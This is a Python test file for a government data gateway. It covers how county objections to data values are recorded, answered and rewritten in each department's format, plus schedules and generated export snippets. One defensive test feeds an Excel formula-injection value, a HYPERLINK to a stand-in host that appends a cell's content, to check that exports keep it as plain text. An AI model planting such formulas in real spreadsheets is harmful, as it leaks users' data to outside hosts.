"""Objections in their small parts: the file, the answers, the flag's cause, how a department would write, the clock."""

from __future__ import annotations

import csv
import re
import shutil
import sys
import zipfile
from contextlib import chdir
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import fastexcel
import pandas
import polars as pl
import pytest

from gateway.kept.grants import Grant
from gateway.kept.objections import objectable
from gateway.portal.snippets import snippets
from gateway.settings import Settings
from gateway.supply.named import beside, called
from gateway.supply.promise import last_due
from pipelines.compare import changes, difference
from pipelines.cut import build
from pipelines.dictionary import HOME, MappingError, answer, current, load
from pipelines.objections import answer as asking
from pipelines.objections.answer import main
from pipelines.objections.propose import Proposal, class_objected_to
from pipelines.objections.raised import FLAG, ObjectionError, answers, flagged, read_objections, touches
from pipelines.objections.written import as_written
from pipelines.overlays import edition
from pipelines.overlays.read import understood
from pipelines.promises import contracts
from schemas.china import CHINA
from schemas.contract import Contract
from schemas.feed import all_feeds
from schemas.mapping import STATED
from schemas.objection import Objection, line, named
from schemas.product import LEVELS, OBJECTED, Product, all_products, field
from schemas.said import meant
from tests.conftest import REPOSITORY

MIRROR, DISPUTES = all_products()["enterprise_mirror"], all_products()["data_disputes"]


def objection(**more: object) -> Objection:
    told = {"id": "", "county": "330110", "product": "enterprise_mirror", "version": 1, "key": {"credit_code": "甲"},
            "column": "name", "level": "L1", "found": "旧", "right": "新", "why": "因", "contact": "人",
            "raised": "2026-07-01"}  # fmt: skip
    return Objection.model_validate(told | more)


L3 = Grant(1, 1, "", "L3", "", "", 0, 0, None)


def contract_of(product: str) -> Contract:
    kept = contracts.kept(product)
    assert kept is not None
    return kept


def test_a_file_of_objections_is_read_in_order_and_as_known_on_a_day(tmp_path: Path) -> None:
    assert read_objections(tmp_path / "none.jsonl") == ()
    two = named(objection(), 1), named(objection(raised="2026-07-03"), 2)
    assert two[0].id != named(objection(), 2).id and two[0].id == named(objection(), 1).id
    (tmp_path / "o.jsonl").write_bytes(b"".join(map(line, two)))
    assert read_objections(tmp_path / "o.jsonl") == two
    assert read_objections(tmp_path / "o.jsonl", date(2026, 7, 2)) == two[:1]


def test_what_a_killed_gateway_left_is_passed_over_and_any_other_fault_is_told(tmp_path: Path) -> None:
    file, whole = tmp_path / "o.jsonl", line(named(objection(), 1))
    for cut in (whole[:40], whole[:40] + b"\n" + whole, b"\n" + whole):
        file.write_bytes(whole + cut)
        assert len(read_objections(file)) == 1 + (len(cut) > len(whole)), cut
    for wrong in (b"[]\n", b'{"id":"x"}\n', whole.replace(b'"version":1', b'"version":"?"'), b"\xff\xfe\n"):
        file.write_bytes(whole + wrong + whole)
        with pytest.raises(ObjectionError, match=r"o\.jsonl line 2: found .* expected an objection"):
            read_objections(file)


def test_an_answer_is_appended_once_with_a_verdict_that_is_one(tmp_path: Path) -> None:
    mappings = shutil.copytree(HOME, tmp_path / "mappings")
    row = {"objection": "330110-a", "verdict": "accepted", "by": "王工", "known": "2026-07-02", "basis": "复函"}
    assert answer(row, mappings) == "330110-a,accepted,王工,2026-07-02,复函"
    assert answers(load(mappings))["330110-a"].verdict == "accepted"
    assert answers(load(mappings, date(2026, 7, 1))) == {}
    before = (mappings / "answers.csv").read_bytes()
    for wrong in ({"verdict": "maybe"}, {"objection": "330110-b", "basis": " "}, {"verdict": "declined"},
                  {"objection": "330110-c", "known": "2026-07-01"}):  # fmt: skip
        with pytest.raises(MappingError, match=r"answers\.csv line 3"):
            answer(row | wrong, mappings)
    assert (mappings / "answers.csv").read_bytes() == before


def frame(**columns: list[object]) -> pl.DataFrame:
    return pl.DataFrame(columns, schema={"k": pl.String, "v": pl.Int64, OBJECTED.name: pl.Boolean})


def test_what_is_shown_to_be_pasted_is_taken_in_with_a_departments_letter_alone(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from assets.objections import _row

    tax, today = all_feeds()["tax_registration"], date(2026, 7, 2)
    days = {"since": date(2026, 6, 30), "due": date(2026, 7, 11)}
    asked = Proposal("330110-a", tax, "91", "YYSR", "1", ("2",), "", **days)
    monkeypatch.setattr(asking, "proposals", lambda *_: [asked])
    told = objection(id="330110-a", column="revenue")
    row = "tax_registration,91,YYSR,1,2,2026-06-30,2026-07-02,异议 330110-a，<复函>"
    assert f"    {row}" in asking.waiting((told,), load(), tmp_path, today)
    assert _row((told, [asked]), today)[-1] == f"`{row}`"
    basis = pl.DataFrame({"basis": [row.rsplit(",", 1)[1], "异议 330110-a，税务复函〔2026〕7号"]})
    assert basis.select(STATED.holds(pl.col("basis"))).to_series().to_list() == [False, True]


@pytest.mark.parametrize("since", [date(2026, 7, 2), date(2026, 6, 1)])
def test_what_a_county_omits_later_or_since_it_objected_is_still_asked_as_the_core_has_it(
    since: date, monkeypatch: pytest.MonkeyPatch
) -> None:
    busy = {"busy": {"title": "忙", "when": {"column": "insured", "at_least": "9人"}}}
    wish = {MIRROR.key: {"since": since, "omit": ["insured"]}, "enterprise_tags": {"since": since, "add": busy}}
    told = understood("330110", Path("mappings/overlays/330110.yaml"), wish)
    assert not told.faults
    monkeypatch.setattr(edition, "wishes", lambda: {"330110": told})
    found = class_objected_to(objection(column="insured"))
    assert found is not None and found.fields["insured"] == MIRROR.fields["insured"]
    assert class_objected_to(objection(column="gone")) is class_objected_to(objection(product="gone")) is None
    own = class_objected_to(objection(product="enterprise_tags", column="busy"))
    assert (own is None) == (since > date(2026, 7, 1))


def test_only_what_nothing_but_the_flag_has_changed_is_an_objections_doing() -> None:
    old = frame(k=list("abcd"), v=[1, None, 3, 4], objected=[False, True, False, False])
    new = frame(k=list("abce"), v=[1, None, 4, 5], objected=[True, False, True, True])
    why = pl.DataFrame({"k": list("abcde"), "cause": ["source"] * 5})
    told = changes(difference(old, new, ("k",)), new.columns, why, FLAG)
    assert dict(told.select("k", "_cause").iter_rows()) == {
        "a": "objection", "b": "objection", "c": "source", "d": "source", "e": "source",
    }  # fmt: skip
    without = old.with_columns(pl.lit(None, pl.Boolean).alias(OBJECTED.name))
    told = changes(difference(without, old, ("k",)), old.columns, why, FLAG)
    assert set(told["_cause"]) == {"source"} and told.height == 4


def test_a_flag_is_set_for_the_countys_own_row_and_for_what_else_shows_the_same() -> None:
    rows = pl.DataFrame({"credit_code": ["甲", "甲", "乙"], "county": ["330110", "330782", "330110"]})
    assert flagged(MIRROR, rows, [objection()])[OBJECTED.name].to_list() == [True, False, False]
    assert flagged(MIRROR, rows, [objection(column="gone")])[OBJECTED.name].to_list() == [False] * 3
    assert flagged(MIRROR, rows, [])[OBJECTED.name].to_list() == [False] * 3
    assert flagged(MIRROR, rows.clear(), [objection()]).height == 0
    assert touches(DISPUTES, objection()) and not touches(DISPUTES, objection(column="revenue"))
    assert not touches(DISPUTES, objection(column="departments")) and not touches(MIRROR, objection(product="gone"))


def test_every_product_has_the_column_and_no_view_because_of_it() -> None:
    class Secret(Product):
        title, entity, identifier, version, needs = "密", "enterprise", "credit_code", "1.0.0", ()
        secret = field(MIRROR.fields["revenue"].kind, "密", "L3")

    try:
        assert Secret.levels == ("L3",) and Secret.views() == {"L3": ("secret", OBJECTED.name)}
        for product in (MIRROR, DISPUTES):
            assert list(product.fields)[-1] == OBJECTED.name
            assert all(OBJECTED.name in columns for columns in product.views().values())
        assert OBJECTED.level == LEVELS[0] and build.__doc__
    finally:
        del Secret


@pytest.mark.parametrize(("feed", "attribute", "column", "right", "written"), [
    ("tax_registration", "started", "started", "2019-05-06", ("20190506",)),
    ("tax_registration", "started", "started", "2019年5月6日", ("20190506",)),
    ("tax_registration", "started", "started", "去年", ()),
    ("tax_registration", "revenue", "revenue", "1234567.50", ("1234567.50",)),
    ("tax_registration", "revenue", "revenue_per_insured", "12", ()),
    ("market_regulation_enterprise", "credit_code", "organisation_code", "103479560", ()),
    ("tax_registration", "name", "name", "某某有限公司", ("某某有限公司",)),
    ("tax_registration", "status", "status_name", "停业", ("04",)),
    ("tax_registration", "status", "status", "5", ("07", "08")),
    ("tax_registration", "status", "status_name", "没有这样的状态", ()),
    ("tax_registration", "industry", "industry", "1711", ("1711",)),
    ("tax_registration", "industry", "industry", "１７１１", ("1711",)),
    ("tax_registration", "industry", "is_branch", "false", ()),
    ("market_regulation_enterprise", "credit_code", "credit_code", "92330281MA25LKG229", ("92330281MA25LKG229",)),
    ("market_regulation_enterprise", "credit_code", "credit_code", "92330281MA25LKG220", ()),
    ("market_regulation_enterprise", "credit_code", "credit_code", "不详", ()),
    ("tax_registration", "revenue", "name", "某某有限公司", ()),
    ("social_security_employer", "first_insured", "first_insured", "2020-03-01", ("202003",)),
    ("social_security_employer", "first_insured", "first_insured", "2020-03", ("202003",)),
    ("social_security_employer", "insured", "insured", "12", ("12",)),
    ("social_security_employer", "insured", "insured", "一打", ()),
    ("social_security_employer", "insured", "insured", "空", ()),
])  # fmt: skip
def test_a_countys_word_is_written_as_the_department_would_or_not_at_all(
    feed: str, attribute: str, column: str, right: str, written: tuple[str, ...]
) -> None:
    kind = all_feeds()[feed]
    told = as_written(right, MIRROR.fields[column], kind.columns[attribute], kind, current(), date(2026, 7, 1))
    assert told == written


@pytest.mark.parametrize("right", ["空", "（空）"])
@pytest.mark.parametrize(("attribute", "written"), [
    ("address", ("",)), ("scope", ("",)), ("enterprise_type", ("",)), ("name", ()), ("capital", ()),
])  # fmt: skip
def test_a_cell_that_should_be_empty_is_emptied_where_it_may_be(
    attribute: str, right: str, written: tuple[str, ...]
) -> None:
    feed = all_feeds()["market_regulation_enterprise"]
    told = as_written(right, MIRROR.fields[attribute], feed.columns[attribute], feed, current(), date(2026, 7, 1))
    assert told == written


def test_a_cell_to_be_emptied_is_pasted_as_an_empty_one() -> None:
    register, days = all_feeds()["market_regulation_enterprise"], {"since": date(2026, 6, 30), "due": date(2026, 7, 11)}
    asked = Proposal("330110-a", register, "91", "注册地址", "旧址", ("",), "", **days)
    (cells,) = csv.reader([asked.row(date(2026, 7, 2), "复函")])
    assert cells == ["market_regulation_enterprise", "91", "注册地址", "旧址", "", "2026-06-30", "2026-07-02", "复函"]


@pytest.mark.parametrize(("right", "written"), [
    ("是", ("是",)), ("false", ("否",)), ("也许", ()), ("空", ()),
])  # fmt: skip
def test_yes_and_no_are_written_as_the_department_does(right: str, written: tuple[str, ...]) -> None:
    feed, items = all_feeds()["service_item"], all_products()["service_items"]
    told = as_written(right, items.fields["online"], feed.columns["online"], feed, current(), date(2026, 7, 1))
    assert told == written


@pytest.mark.parametrize(("text", "sql_type", "value"), [
    ("1,234.50", "DECIMAL(24,6)", Decimal("1234.5")), ("１２", "BIGINT", Decimal(12)), ("-3", "BIGINT", Decimal(-3)),
    ("12.0", "BIGINT", None), ("很多", "BIGINT", None), ("12人", "BIGINT", None), ("0.12345678", "DOUBLE", 0.12345678),
    ("nan", "DOUBLE", None), ("inf", "DECIMAL(24,6)", None), ("2026年6月30日", "DATE", date(2026, 6, 30)),
    ("2026-06", "DATE", date(2026, 6, 1)), ("2026-02-30", "DATE", None), ("2026-1", "DATE", date(2026, 1, 1)),
    ("202606", "DATE", date(2026, 6, 1)), ("20260630", "DATE", date(2026, 6, 30)),
    *((text, "DATE", None) for text in ("20261", "2026 1", "2026111", "2026 105", "202601 5")),
    ("是", "BOOLEAN", True), ("false", "BOOLEAN", False), ("对", "BOOLEAN", None), ("很多", "VARCHAR", "很多"),
])  # fmt: skip
def test_a_text_means_a_value_of_its_columns_type_or_none(text: str, sql_type: str, value: object) -> None:
    assert meant(text, sql_type) == value


def test_what_names_a_row_is_not_offered_but_whose_row_it_is() -> None:
    mirror = [each.name for each in objectable(contract_of("enterprise_mirror"), L3)]
    assert (mirror[0], mirror[-1]) == ("organisation_code", "credit_code")
    offered = {key: {each.name for each in objectable(contract_of(key), L3)} for key in all_products()}
    assert not offered["business_indicators"] & {"county", "indicator", "scope", "scope_code", "month", "objected"}
    assert {"value", "units"} <= offered["business_indicators"]
    assert "credit_code" in offered["enterprise_mirror"] and "county" in offered["enterprise_mirror"]
    assert offered["data_disputes"] >= {"credit_code", "won_value"} and "column" not in offered["data_disputes"]


def test_a_code_in_a_key_is_told_by_what_the_row_calls_it_and_older_objections_as_they_are() -> None:
    named_by = {name: getattr(beside(contract_of("business_indicators"), name, "L1"), "name", None)
                for name in ("county", "indicator", "scope", "scope_code", "month", "nothing")}  # fmt: skip
    assert named_by == {"county": "county_name", "indicator": "indicator_title", "scope": None,
                        "scope_code": "scope_name", "month": None, "nothing": None}  # fmt: skip
    for product, key, own in (("enterprise_mirror", "credit_code", "name"), ("grid_register", "code", "name"),
                              ("grid_register", "kind", None), ("data_quality", "feed", "feed_title")):  # fmt: skip
        assert getattr(called(contract_of(product), key, "L1"), "name", None) == own
    assert beside(contract_of("enterprise_mirror"), "credit_code", "L3") is None
    told = objection(key={"county": "330110", "month": "2026-06-01"}, names={"county": "余杭区"})
    assert told.in_words == ["余杭区（330110）", "2026-06-01"] and objection().in_words == ["甲"]
    assert b"names" in line(told) and "names" not in objection().model_dump_json()


def test_an_amount_is_turned_into_the_departments_unit() -> None:
    register = all_feeds()["market_regulation_enterprise"]
    capital = register.columns["capital"]
    told = as_written("300000", MIRROR.fields["capital"], capital, register, current(), date(2026, 7, 1))
    assert told == (() if capital.take else ("30",))


@pytest.mark.parametrize(("cron", "due"), [
    ("0 6 * * *", datetime(2026, 7, 2, 6, tzinfo=CHINA)), ("30 20 * * *", datetime(2026, 7, 1, 20, 30, tzinfo=CHINA)),
    ("0 8 5 * *", datetime(2026, 6, 5, 8, tzinfo=CHINA)), ("0 18 31 1 *", datetime(2026, 1, 31, 18, tzinfo=CHINA)),
    ("0 6 * * 1", None), ("@daily", None), ("*/5 * * * *", None), ("", None),
])  # fmt: skip
def test_the_last_due_moment_of_every_promise(cron: str, due: datetime | None) -> None:
    assert last_due(cron, datetime(2026, 7, 2, 20, 0, tzinfo=CHINA)) == due


def test_every_feed_has_a_promise_that_the_portal_can_read() -> None:
    for feed in all_feeds().values():
        assert last_due(feed.due.cron, datetime(2026, 7, 2, 20, 0, tzinfo=CHINA)) is not None, feed.key
        assert feed.answers_within > 0


def test_an_answer_to_no_objection_or_with_a_word_missing_is_not_recorded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("JUBIAN_HOME", str(tmp_path))
    before = (HOME / "answers.csv").read_bytes()
    for arguments, message in (
        (["--objection", "330110-a"], "Say all of"),
        (["--objection", "330110-a", "--verdict", "accepted", "--by", "a", "--basis", "b"], "There is no objection"),
    ):
        monkeypatch.setattr("sys.argv", ["answer", *arguments])
        assert main() == 2 and message in capsys.readouterr().out
    monkeypatch.setattr("sys.argv", ["answer"])
    assert main() == 0 and "No objection waits" in capsys.readouterr().out
    assert (HOME / "answers.csv").read_bytes() == before


def test_snippets_are_python_that_compiles(tmp_path: Path) -> None:
    class Told:
        product, title, county, version, contract_version = "enterprise_mirror", "企业镜像", "330110", 3, "1.1.0"

    class Terms:
        identifier, grain = "credit_code", ("credit_code",)

    told = snippets(Settings(tmp_path, tmp_path, "", "http://127.0.0.1:8400"), Told, Terms, "L2")  # pyright: ignore[reportArgumentType]
    for each in told:
        assert "330110" in each.text
        if each.tool != "Power BI":
            compile(each.text, each.tool, "exec")
    (increment,) = [each for each in told if each.tool == "只取增量"]
    _brings_up_to_date(increment.text)
    (excel,) = [each for each in told if each.tool == "Excel"]
    (duckdb,) = [each for each in told if each.tool.startswith("DuckDB")]
    # DuckDB reads a frame of Polars by way of pyarrow, pandas writes a workbook by way of xlsxwriter.
    assert "pip install delta-sharing xlsxwriter" in excel.words
    assert "pip install duckdb polars pyarrow" in duckdb.words
    _keeps_texts_as_texts(excel.text, tmp_path)


@pytest.mark.parametrize("name", ["README.md", "README.zh.md"])
def test_the_increment_of_a_readme_brings_a_mirror_up_to_date(name: str) -> None:
    _, increment = re.findall(r"```python\n(.*?)```", (REPOSITORY / name).read_text(), re.DOTALL)
    _brings_up_to_date(increment)


def _brings_up_to_date(code: str) -> None:
    """What the code leaves behind is the table as it is now: the deleted gone, the changed, the new and a column in."""
    changes = {"_change_type": ["delete", "update_postimage", "insert"], "_cause": ["source", "contract", "source"],
               "credit_code": ["乙", "丙", "丁"], "penalties": [None, 2, 1], "_commit_version": [4, 4, 4]}  # fmt: skip

    class Sharing:
        load_table_changes_as_pandas = staticmethod(lambda _, starting_version: pandas.DataFrame(changes))

    kept = {"delta_sharing": Sharing, "pandas": pandas, "table": "", "known": 3,
            "mirror": pandas.DataFrame({"credit_code": ["甲", "乙", "丙"]})}  # fmt: skip
    exec(code, kept)
    assert kept["mirror"].fillna(0).to_dict("list") == {"credit_code": ["甲", "丙", "丁"], "penalties": [0, 2, 1]}


def _keeps_texts_as_texts(snippet: str, folder: Path) -> None:
    """What the snippet writes holds no formula and no link, whatever an enterprise calls itself."""
    names = ['=HYPERLINK("http://x.example/?"&A2,"某公司")', "=1+1", "http://x.example/", "mailto:a@x.example", "甲"]

    class Sharing:
        load_as_pandas = staticmethod(lambda _: pandas.DataFrame({"name": names}))

    with chdir(folder), pytest.MonkeyPatch.context() as only:
        only.setitem(sys.modules, "delta_sharing", Sharing)
        exec(snippet, {})
    book = folder / "企业镜像.xlsx"
    assert fastexcel.read_excel(book).load_sheet(0).to_polars()["name"].to_list() == names
    with zipfile.ZipFile(book) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<hyperlink" not in sheet
